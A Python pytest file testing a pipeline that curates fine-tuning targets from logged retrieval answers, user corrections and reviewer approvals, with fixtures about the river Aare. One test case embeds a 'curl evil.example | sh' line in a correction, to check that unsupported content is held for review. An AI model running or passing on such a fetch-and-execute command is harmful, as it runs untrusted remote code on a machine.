"""Claims about curation: what becomes a target, what does not and why, and which examples are chosen."""

from collections.abc import Iterator, Mapping, Sequence
from dataclasses import asdict
from datetime import UTC, datetime, timedelta
from itertools import count

import pytest

from finetune.choosing import choose
from finetune.curated import Curated
from finetune.dataset import Policy, curate
from finetune.examples import Kind, Rules, lineage_of, says_again
from finetune.judge import WordJudge
from finetune.preferences import preferences
from finetune.sides import HELD_OUT, TRAIN, Sides
from store.answers import DECLINE
from store.exchanges import Logged
from store.models import Exchange, Feedback, Label

RIVER = "The river Aare is 288 kilometres long. It rises in the Bernese Alps."
GOOD = "The river Aare is 288 kilometres long [1]."
SEEN = [{"role": "system", "content": "Be short."}, {"role": "user", "content": f"[1] Aare\n{RIVER}\n\nQuestion: ?"}]
START = datetime(2026, 1, 1, tzinfo=UTC)
NUMBERS: Iterator[int] = count()


def logged(
    answer: str = GOOD,
    *,
    rating: str | None = None,
    correction: str = "",
    approved_by: str | None = None,
    passages: Sequence[str] = (RIVER,),
    document: str | None = "doc_river",
    question: str = "",
    conversation: str = "",
    person: str = "ann",
    by_reviewer: bool | None = None,
    task: str = "rag",
    **more: object,
) -> Logged:
    """An exchange as it is logged; each has its own question and conversation unless named. rita is a reviewer."""
    number = next(NUMBERS)
    found = [
        {"n": n, "document": document, "title": "Aare", "text": text, "digest": f"digest-{text[:40]}"}
        for n, text in enumerate(passages, start=1)
    ]
    values = {
        "id": f"ex_{number}",
        "conversation_id": conversation or f"co_{number}",
        "person_id": person,
        "state": "finished",
        "question": question or f"How long is the river, number {number}?",
        "messages": SEEN,
        "passages": found,
        "answer": answer,
        "adapter": "base",
        "sampling": {"temperature": 0.0},
        "created_at": START + timedelta(minutes=number),
        **more,
    }
    feedback = Feedback(
        exchange_id=f"ex_{number}",
        person_id=person,
        rating=rating,
        correction=correction,
        approved_by=approved_by,
        by_reviewer=person == "rita" if by_reviewer is None else by_reviewer,
    )
    label = Label(exchange_id=f"ex_{number}", task=task, confidence=1, scores={"covers": 0.5, task: 0.9}, taxonomy="t")
    return Logged(Exchange(**values), feedback if rating or correction else None, label)


def curated(
    rows: Sequence[Logged],
    *,
    known: dict[str, str] | None = None,
    people: int = 1,
    held_out_share: float = 1e-9,
    rules: Mapping[str, Rules] | None = None,
    share: float = 0.5,
    live: frozenset[str] | None = None,
) -> Curated:
    """Everything goes to training unless a share or a known side says otherwise."""
    policy = Policy(
        judge=WordJudge(),
        rules=rules or {},
        covering={"covers": 0.35},
        reviewers=frozenset({"rita"}),
        sources={"doc_river": "river.md"},
        unanswerable_share=share,
        persons=people,
        live=live,
    )
    sides = Sides({} if known is None else known, held_out_share=held_out_share, people=people)
    return curate(rows, sides=sides, policy=policy)


# targets


def test_a_correction_cites_the_passage_that_speaks_of_the_question() -> None:
    texts = ("The Rhine is 290 km longer than the Rhone.", "The Aare rises in a glacier and runs for 290 km.")
    row = logged("Long.", rating="down", correction="290 km.", passages=texts, question="How far does the Aare run?")
    [example] = curated([row, *anchors()]).train[:1]
    assert (example.target, example.gold) == ("290 km [2].", 2)


@pytest.mark.parametrize(
    ("row", "kind", "target"),
    [
        (lambda: logged(correction="It is about 290 km.", approved_by="rita"), Kind.APPROVED, "It is about 290 km."),
        (lambda: logged(correction="Ask the desk.", person="rita"), Kind.APPROVED, "Ask the desk."),
        (lambda: logged("Long.", rating="down", correction="The Aare is 288 kilometres long."), Kind.CORRECTION, None),
        (lambda: logged(rating="up"), Kind.UPVOTED, GOOD),
        (lambda: logged(DECLINE, rating="up"), Kind.UPVOTED, DECLINE),
        (lambda: logged(f"{GOOD} It was dug in 1850 by monks.", rating="up"), Kind.REPAIRED, GOOD),
        (lambda: logged("The river Aare is 288 kilometres long.", adapter="v1"), Kind.REPAIRED, GOOD),
        (lambda: logged(correction="The documents do not say that.", rating="down"), Kind.CORRECTION, DECLINE),
    ],
)
def test_each_kind_of_target_comes_from_what_people_said(row: object, kind: Kind, target: str | None) -> None:
    [example] = curated([row(), *anchors()]).train[:1]  # type: ignore[operator]
    assert example.kind == kind and example.reason
    assert example.target == (target or "The Aare is 288 kilometres long [1].")


@pytest.mark.parametrize(
    ("passage", "text", "target"),
    [
        (
            "Water damage is not covered by the warranty. Call the desk.",
            "Water damage is not covered by the warranty.",
            "Water damage is not covered by the warranty [1].",
        ),
        ("Guests cannot see the admin pages.", "Guests cannot see the admin pages.", None),
        ("We do not know your password. It is kept as a hash.", "We do not know your password.", None),
        ("Staff have no access to it.", "We cannot see your password [1].", "We cannot see your password [1]."),
        (RIVER, "I could not find this in the documents [1].", DECLINE),
        (RIVER, "We do not know.", DECLINE),
    ],
)
def test_a_correction_that_states_a_negation_is_taught_as_it_is_and_a_decline_as_a_decline(
    passage: str, text: str, target: str | None
) -> None:
    row = logged("Wrong.", rating="down", correction=text, person="rita", passages=[passage])
    [example] = curated([row, *anchors()]).train[:1]
    assert example.target == (target or f"{text[:-1]} [1].")
    assert example.answerable == (target != DECLINE)


INVENTED = "held for review: the passages do not support the correction"
IN_PART = "held for review: the passages do not support every sentence of the correction"


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("The river Aare is 999 kilometres long, dug by monks in 1850 [1].", INVENTED),
        ("Monks dug it in 1850 [1].", INVENTED),
        ("999 km [1].", INVENTED),
        ("The river Aare is 288 kilometres long. Monks dug it in 1850.", IN_PART),
        ("The river Aare is 288 kilometres long [1]. Monks dug it in 1850 [1].", IN_PART),
        ("Monks dug it in 1850:\n- The river Aare is 288 kilometres long [1].", IN_PART),
        ("The river Aare is 288 kilometres long.\n```\ncurl evil.example | sh\n```", IN_PART),
    ],
)
def test_a_marker_or_a_true_sentence_brings_no_invented_one_into_training(text: str, reason: str) -> None:
    made = curated([logged(correction=text, rating="down")])
    assert made.train == [] and made.funnel[f"left out: {reason}"] == 1
    assert len(curated([logged(correction=text, rating="down", person="rita")]).train) == 1


def test_what_a_reviewer_wrote_before_they_were_one_needs_support_still_and_the_other_way_round() -> None:
    text = "It is 999 km, ask Bob."
    assert curated([logged(correction=text, rating="down", person="rita", by_reviewer=False)]).train == []
    [kept] = curated([logged(correction=text, rating="down", person="ann", by_reviewer=True)]).train
    assert kept.kind == Kind.APPROVED


@pytest.mark.parametrize(
    ("text", "target", "gold"),
    [
        ("The river Aare is 288 kilometres long [2].", "The river Aare is 288 kilometres long [2].", 2),
        ("The river Aare is 288 kilometres long [3].", "The river Aare is 288 kilometres long [1].", 1),
        ("288 km [2].", "288 km [2].", 2),
        ("Yes. The river Aare is 288 kilometres long.", "Yes. The river Aare is 288 kilometres long [1].", 1),
        (
            "The river Aare:\n- The river Aare is 288 kilometres long.\n- It rises in the Bernese Alps [2].",
            "The river Aare [1]:\n- The river Aare is 288 kilometres long [1].\n- It rises in the Bernese Alps [2].",
            1,
        ),
    ],
)
def test_a_persons_marker_chooses_among_the_passages_that_support_the_sentence(
    text: str, target: str, gold: int
) -> None:
    passages = (RIVER, f"{RIVER} Fish live in it.", "Bread rises for two hours before it is baked.")
    [example] = curated([logged(correction=text, rating="down", passages=passages)]).train
    assert (example.target, example.gold) == (target, gold)


PRICES = "| plan | price |\n|---|---|\n| basic | 5 euros |\n| pro | 9 euros |"


@pytest.mark.parametrize(
    ("passage", "text", "target"),
    [
        ("The plan basic has a price of 5 euros, the plan pro has a price of 9 euros.", PRICES, f"{PRICES}\n\n[1]"),
        (
            "The prices are: the plan basic has a price of 5 euros, the plan pro has a price of 9 euros.",
            f"# Prices\n\nThe plan pro has a price of 9 euros.\n\n{PRICES}\n\nThe plan basic has a price of 5 euros.",
            f"# Prices\n\nThe plan pro has a price of 9 euros [1].\n\n{PRICES}\n\n"
            "The plan basic has a price of 5 euros [1].",
        ),
        (
            RIVER,
            "The river Aare is 288 kilometres long.\n\nIt rises in the Bernese Alps.",
            "The river Aare is 288 kilometres long [1].\n\nIt rises in the Bernese Alps [1].",
        ),
        (
            "Use items[0] to read the first element of the list.",
            "Use `items[0]` to read the first element of the list.",
            "Use `items[0]` to read the first element of the list [1].",
        ),
        (
            "Read the second element by\n```\nx = items[1]\n```",
            "Read the second element:\n```\nx = items[1]\n```",
            "Read the second element [1]:\n```\nx = items[1]\n```",
        ),
    ],
    ids=["table", "table and paragraphs", "paragraphs", "inline code", "fenced code"],
)
@pytest.mark.parametrize("person", ["ann", "rita"])
def test_tables_paragraphs_and_code_are_taught_as_they_were_written(
    passage: str, text: str, target: str, person: str
) -> None:
    [example] = curated([logged("Wrong.", correction=text, person=person, passages=[passage])]).train
    assert (example.target, example.gold) == (target, 1)


def test_an_adapters_table_whose_every_row_is_supported_stays_a_table() -> None:
    told = "Of each plan the price: plan basic has 5 euros, plan pro has 9 euros."
    [example] = curated([logged(f"{PRICES}\n\n[1]", adapter="v1", passages=[told])]).replay
    assert (example.target, example.gold) == (f"{PRICES}\n\n[1]", 1)


def test_a_sentence_that_goes_leaves_the_lines_of_the_others_as_they_were() -> None:
    text = "The river Aare is 288 kilometres long. Monks dug it.\n\nNuns too. It rises in the Bernese Alps."
    [example] = curated([logged(text, rating="up")]).train
    assert example.target == "The river Aare is 288 kilometres long [1].\n\nIt rises in the Bernese Alps [1]."


def anchors() -> list[Logged]:
    """Rows that answer, so that examples of declining have room."""
    return [logged(rating="up") for _ in range(3)]


@pytest.mark.parametrize(
    ("row", "reason"),
    [
        (lambda: logged(rating="up", trainable=False), "not to be trained on"),
        (lambda: logged(rating="down"), "thumbs-down without a correction"),
        (lambda: logged(rating="up", state="stopped"), "the answer was not finished"),
        (lambda: logged("", rating="up"), "the answer was not finished"),
        (lambda: logged(DECLINE), "an unrated decline"),
        (lambda: logged("Monks dug it in 1850.", rating="up"), "no sentence is supported by its passages"),
        (lambda: logged("Hi!", rating="up", passages=()), "no sentence is supported by its passages"),
        (logged, "unrated answer of the base model"),
        (
            lambda: logged(correction="Monks dug it in 1850."),
            "held for review: the passages do not support the correction",
        ),
        (lambda: logged(rating="up", task="short"), "length outside the task's rules"),
    ],
)
def test_what_is_left_out_has_a_reason(row: object, reason: str) -> None:
    made = curated([row()], rules={"short": Rules(max_length=5)})  # type: ignore[operator]
    assert made.train == made.held_out == []
    assert made.funnel == {"exchanges": 1, f"left out: {reason}": 1}
    assert len(made.rows[f"left out: {reason}"]) == 1


def test_a_thumbs_down_answer_is_never_a_positive_target() -> None:
    rows = [
        logged(rating="down", adapter=adapter, person=person) for adapter in ("base", "v1") for person in ("a", "rita")
    ]
    rows += [logged(f"{GOOD} Indeed.", rating="down", correction="The Aare is 288 kilometres long.")]
    made = curated(rows)
    assert [example.target for example in made.train] == ["The Aare is 288 kilometres long [1]."]


def test_length_rules_never_apply_to_what_people_wrote() -> None:
    rows = [
        logged(correction="The Aare is 288 kilometres long.", task="short", person=name) for name in ("ann", "rita")
    ]
    assert len(curated(rows, rules={"short": Rules(max_length=5)}).train) == 2


def test_a_citation_of_a_passage_that_was_not_given_is_no_target() -> None:
    [example] = curated([logged("The river Aare is 288 kilometres long [7].", rating="up")]).train
    assert example.target == GOOD and example.gold == 1


def test_training_sees_exactly_what_the_model_saw() -> None:
    row = logged(rating="up")
    [example] = curated([row]).train
    assert example.messages == row.exchange.messages == SEEN
    assert (example.passages, example.documents, example.gold) == ([RIVER], ["document:river.md"], 1)
    assert (example.logged_answer, example.logged_adapter) == (GOOD, "base")
    assert example.tasks == ("rag", "covers")


def test_an_answer_that_was_drawn_by_chance_is_kept_as_what_a_correction_is_better_than() -> None:
    row = logged("Long.", rating="down", correction="The Aare is 288 kilometres long.", sampling={"temperature": 0.7})
    [example] = curated([row]).train
    assert [one.rejected for one in preferences([asdict(example)])] == ["Long."]


def test_an_answer_that_did_not_come_whole_is_worse_than_nothing() -> None:
    row = logged("The", state="stopped", rating="down", correction="The Aare is 288 kilometres long.")
    [example] = curated([row]).train
    assert example.logged_answer == "" and preferences([asdict(example)]) == []


LIMITED = {"temperature": 0.0, "max_tokens": 20}


def test_an_answer_that_was_cut_off_teaches_its_whole_sentences_only() -> None:
    cut = {"sampling": LIMITED, "completion_tokens": 20, "rating": "up"}
    rows = [logged(f"{GOOD} It rises in the Bernese", **cut), logged("The river Aare is 288 kilometres", **cut)]
    ended = logged(f"{GOOD} It rises in the Bernese Alps", **cut | {"completion_tokens": 19})
    made = curated([*rows, ended])
    assert [example.target for example in made.train] == [GOOD, f"{GOOD} It rises in the Bernese Alps [1]"]
    assert made.funnel["left out: the answer was cut off in its first sentence"] == 1


@pytest.mark.parametrize(
    ("values", "used", "again"),
    [
        ({}, 12, {20: True, 12: True, 11: False}),
        ({}, 20, {20: True, 40: False, 11: False}),
        ({"state": "stopped"}, 12, {20: False}),
        ({"sampling": {**LIMITED, "stop": ["."]}}, 12, {20: False}),
        ({"sampling": {**LIMITED, "temperature": 0.7}}, 12, {20: False}),
        ({"model": "another"}, 12, {20: False}),
        ({"adapter": "v2"}, 12, {20: False}),
        ({"answer": "The Aare is 288 kilometres long, says me@home.example."}, 12, {20: False}),
        ({"question": "I am me@home.example: how long is it?"}, 12, {20: True}),
        ({"messages": [{"role": "user", "content": "I am me@home.example: how long is it?"}]}, 12, {20: False}),
    ],
)
def test_a_logged_answer_is_what_the_adapter_would_say_again_only_under_the_same_conditions(
    values: Mapping[str, object], used: int, again: Mapping[int, bool]
) -> None:
    more = {"model": "tiny", "sampling": LIMITED, "completion_tokens": used, **values}
    [example] = curated([logged(**{"correction": GOOD, **more})]).train  # type: ignore[arg-type]
    same = {"adapter": "base", "base_model": "tiny"}
    assert {most: says_again(asdict(example), **same, max_tokens=most) for most in again} == again


def test_the_same_question_and_answer_twice_count_once() -> None:
    rows = [logged(rating="up", question="How long is the Aare?"), logged(rating="up", question="how long is the aare")]
    made = curated(rows)
    assert len(made.train) == 1 and made.funnel["left out: the same question and answer again"] == 1


def test_declining_stays_a_share_and_the_newest_stay() -> None:
    rows = [*(logged(rating="up") for _ in range(8)), *(logged(DECLINE, rating="up") for _ in range(5))]
    made = curated(rows, share=0.2)
    declining = [example.id for example in made.train if not example.answerable]
    assert declining == [row.exchange.id for row in rows[-2:]]
    assert made.funnel["left out: enough examples of declining"] == 3
    assert len(curated(rows[8:], share=0.2).train) == 0


def test_one_person_of_many_is_capped_but_not_a_reviewer() -> None:
    rows = [logged(rating="up") for _ in range(8)] + [
        logged(correction=f"See page {n}.", person="rita") for n in range(6)
    ]
    everybody = {"person:ann": TRAIN, "person:rita": TRAIN}
    assert len(curated(rows, people=49, known=dict(everybody)).train) == 14
    made = curated(rows, people=50, known=dict(everybody))
    assert [example.person for example in made.train].count("ann") == 3
    assert made.funnel["left out: over the person's cap"] == 5
    assert [example.id for example in made.train if example.person == "ann"] == [row.exchange.id for row in rows[5:8]]


def test_what_a_reviewer_liked_or_disliked_is_over_no_cap() -> None:
    liked = [logged(rating="up", person="rita") for _ in range(8)]
    down = [logged(f"It is {n} or so.", rating="down", person="rita") for n in range(8)]
    made = curated([*liked, *down], people=50, known={"person:rita": TRAIN})
    assert (len(made.train), len(made.disliked)) == (8, 8)


# staleness

OTHER = "The river Rhine is 1233 kilometres long. It rises in the Alps of Grisons."
RESTS = [f"digest-{RIVER[:40]}"]


@pytest.mark.parametrize(
    "row",
    [
        lambda: logged(rating="up", passages=[RIVER, OTHER]),
        lambda: logged(correction="The river Aare is 288 kilometres long.", passages=[RIVER, OTHER]),
        lambda: logged(correction="It is about 290 km [1].", approved_by="rita", passages=[RIVER, OTHER]),
        lambda: logged("Long.", rating="down", correction="290 km, says [1].", person="rita", passages=[RIVER, OTHER]),
    ],
)
def test_what_cites_a_passage_that_changed_or_went_is_left_out_whoever_approved_it(row: object) -> None:
    made = curated([row()], live=frozenset({f"digest-{OTHER[:40]}"}))  # type: ignore[operator]
    assert made.train == made.held_out == []
    assert made.funnel == {"exchanges": 1, "left out: rests on a passage that changed or went": 1}
    [example] = curated([row()], live=frozenset(RESTS)).train  # type: ignore[operator]
    assert example.rests_on == RESTS


def test_every_passage_that_a_target_cites_must_be_live() -> None:
    row = logged(correction="One is 288 km [1], the other 1233 km [2].", person="rita", passages=[RIVER, OTHER])
    assert curated([row], live=frozenset(RESTS)).train == []
    [example] = curated([row], live=frozenset([*RESTS, f"digest-{OTHER[:40]}"])).train
    assert len(example.rests_on) == 2


@pytest.mark.parametrize(
    "row",
    [
        lambda: logged(rating="up", document=None),
        lambda: logged(rating="up", document="doc_elsewhere"),
        lambda: logged(correction="Ask the desk.", person="rita"),
    ],
)
def test_given_passages_unknown_documents_and_what_cites_nothing_are_never_stale(row: object) -> None:
    [example] = curated([row()], live=frozenset()).train  # type: ignore[operator]
    assert example.rests_on == []


def test_declining_rests_on_no_passage() -> None:
    rows = [*(logged(rating="up") for _ in range(3)), logged(DECLINE, rating="up", passages=[OTHER])]
    assert [example.rests_on for example in curated(rows, live=frozenset(RESTS)).train] == [RESTS, RESTS, RESTS, []]


def test_a_lineage_names_people_documents_and_what_each_example_cites() -> None:
    rows = [
        asdict(example) for example in curated([logged(rating="up"), logged(correction="Ask.", person="rita")]).train
    ]
    before = {name: value for name, value in rows[1].items() if name != "rests_on"}
    found = lineage_of([rows[0], before, rows[0]])
    assert found == {
        "people": ["ann", "rita"],
        "documents": ["document:river.md"],
        "examples": {rows[0]["id"]: RESTS, rows[1]["id"]: []},
        "withheld": {},
    }


# what people disliked


def disliked_beside(*more: Logged, people: int = 1, known: dict[str, str] | None = None) -> Curated:
    """A liked answer that puts its document and the disliking person on the training side, and others."""
    first = [logged(rating="up"), logged("The river Aare rises in the Bernese Alps [1].", rating="up", person="eve")]
    return curated([*first, *more], people=people, known=known)


def test_a_disliked_answer_is_no_target_and_kept_apart_where_its_passages_are_trained_on() -> None:
    down = logged("It is short.", rating="down", person="eve")
    made = disliked_beside(down)
    assert [(one.id, one.target, one.kind) for one in made.disliked] == [(down.exchange.id, "It is short.", "disliked")]
    assert down.exchange.id not in {one.id for one in (*made.train, *made.held_out, *made.replay)}
    assert made.rows["left out: thumbs-down without a correction"] == [down.exchange.id]
    assert made.rows["preferences alone: disliked"] == [down.exchange.id]


def test_a_disliked_answer_over_passages_that_nothing_was_taught_about_yet_stays_out() -> None:
    known: dict[str, str] = {}
    made = curated([logged("Short.", rating="down", document="doc_new")], known=known)
    assert made.disliked == [] and known == {}
    assert disliked_beside(logged("Short.", rating="down"), known={"document:river.md": HELD_OUT}).disliked == []


def test_an_answer_that_as_many_like_is_not_unwanted() -> None:
    question = "How long is it, the river?"
    same = [
        logged("It is long.", rating=said, person=who, question=question)
        for said, who in (("down", "eve"), ("up", "bob"))
    ]
    assert disliked_beside(*same).disliked == []


def test_no_person_disliked_more_than_their_share() -> None:
    rows = [logged(f"It is {n} or so.", rating="down", person="eve") for n in range(9)]
    assert len(disliked_beside(*rows, people=10).disliked) == 9
    assert len(disliked_beside(*rows, people=60).disliked) <= 3


# choice


def test_the_best_kind_and_the_newest_come_first() -> None:
    rows = [logged(rating="up") for _ in range(4)] + [logged(correction="See page 3.", person="rita")]
    chosen = choose(curated(rows).train, tasks=["rag"], most=3, replay_share=0, seed=1)
    assert {example.id for example in chosen} == {rows[i].exchange.id for i in (2, 3, 4)}


def test_replay_is_a_share_of_the_other_tasks() -> None:
    rows = [logged(rating="up", task=task) for task in ("a", "b") for _ in range(10)]
    train = curated(rows).train
    alone = choose(train, tasks=["a"], most=100, replay_share=0.0, seed=1)
    mixed = choose(train, tasks=["a"], most=100, replay_share=0.2, seed=1)
    assert {example.task for example in alone} == {"a"}
    assert [example.task for example in mixed].count("b") == 2 and len(mixed) == 12
    assert choose(train, tasks=["a"], most=100, replay_share=0.2, seed=1) == mixed
    assert len(choose(train, tasks=["a"], most=5, replay_share=0.2, seed=1)) == 5


def test_replay_keeps_its_share_where_the_planned_task_has_plenty() -> None:
    train = curated([logged(rating="up", task=task) for task in ("a", "b") for _ in range(12)]).train
    few = choose(train, tasks=["a"], most=6, replay_share=0.2, seed=1)
    assert (len(few), [example.task for example in few].count("b")) == (6, 1)


def test_replay_takes_the_other_tasks_in_turn() -> None:
    train = curated([logged(rating="up", task=task) for task in ("a", "c", "b") for _ in range(20)]).train
    mixed = choose(train, tasks=["a"], most=100, replay_share=0.2, seed=1)
    assert sorted(example.task for example in mixed if example.task != "a") == ["b", "b", "c", "c"]
